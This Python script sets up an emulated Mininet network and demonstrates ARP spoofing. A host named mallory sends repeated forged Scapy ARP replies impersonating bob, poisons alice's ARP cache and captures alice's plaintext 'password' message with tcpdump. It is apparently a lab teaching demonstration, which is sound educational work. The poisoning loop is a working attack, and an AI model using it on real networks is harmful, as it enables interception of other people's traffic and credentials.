#!/usr/bin/env python3
"""ARP spoofing with Scapy: mallory answers for bob, alice believes it, and mallory reads what alice sends."""

from mininet.net import Mininet
from mininet.nodelib import LinuxBridge

ATTACK = """
from scapy.all import ARP, Ether, get_if_hwaddr, getmacbyip, sendp
me = get_if_hwaddr("mallory-eth0")
alice = getmacbyip("10.0.0.1")
for _ in range(40):  # again and again, because bob's own requests undo it
    sendp(Ether(dst=alice) / ARP(op=2, hwsrc=me, psrc="10.0.0.2", hwdst=alice, pdst="10.0.0.1"),
          iface="mallory-eth0", inter=0.5, verbose=False)
"""

net = Mininet(controller=None, switch=LinuxBridge, autoSetMacs=True)
s1 = net.addSwitch("s1")
alice, bob, mallory = net.addHost("alice"), net.addHost("bob"), net.addHost("mallory")
for host in (alice, bob, mallory):
    net.addLink(host, s1)
net.start()
print(alice.cmd("ping -c 1 10.0.0.2 | grep received"))
print("before:", alice.cmd("ip neigh show 10.0.0.2"))
with open("/tmp/attack.py", "w") as file:
    file.write(ATTACK)
alice.cmd("sleep 2")  # a fresh entry is locked for a second, arp(7)
mallory.cmd("sysctl -w net.ipv4.ip_forward=0")
mallory.cmd("python3 /tmp/attack.py &")
mallory.cmd("sleep 3")
print("after:", alice.cmd("ip neigh show 10.0.0.2"))
mallory.cmd("timeout 8 tcpdump -c 1 -n -A -i mallory-eth0 udp port 9 > /tmp/seen 2>/dev/null &")
mallory.cmd("sleep 1")
for _ in range(4):
    alice.cmd("echo the password is tulip | socat - UDP:10.0.0.2:9; sleep 1")
mallory.cmd("wait %2; kill %1")
print(mallory.cmd("grep -ao 'the password is .*' /tmp/seen"))
net.stop()
